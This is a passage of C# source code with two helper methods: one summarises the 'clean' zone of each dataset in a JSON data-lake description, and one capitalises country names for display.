    private static Dictionary<string, (string?, string?, string?)> CleanZones(JsonElement lake) =>
        lake.GetProperty("datasets").EnumerateArray()
            .Select(d => (Dataset: d.GetProperty("dataset").GetString()!, Manifests: d.GetProperty("manifests").GetInt32(),
                Clean: d.GetProperty("zones").EnumerateArray().Where(z => z.GetProperty("zone").GetString() == "clean").ToList()))
            .Where(d => d.Clean.Count == 1)
            .ToDictionary(d => d.Dataset, d => ((string?)d.Clean[0].GetProperty("files").GetInt32().ToString(CultureInfo.InvariantCulture),
                (string?)d.Clean[0].GetProperty("bytes").GetInt64().ToString(CultureInfo.InvariantCulture), (string?)d.Manifests.ToString(CultureInfo.InvariantCulture)));

    /// <summary>A country as the page writes it (the warehouse keeps the cleaning rule's lower case): each word
    /// capitalized, the order data's abbreviations in capitals.</summary>
    private static string Place(string country) =>
        string.Concat(System.Text.RegularExpressions.Regex.Split(country, @"(\s+|-)")
            .Select(w => w is "usa" or "rsa" or "eire" or "uk" or "uae" or "us" or "eu" ? w.ToUpperInvariant() : w.Length > 0 ? char.ToUpperInvariant(w[0]) + w[1..] : w));
}
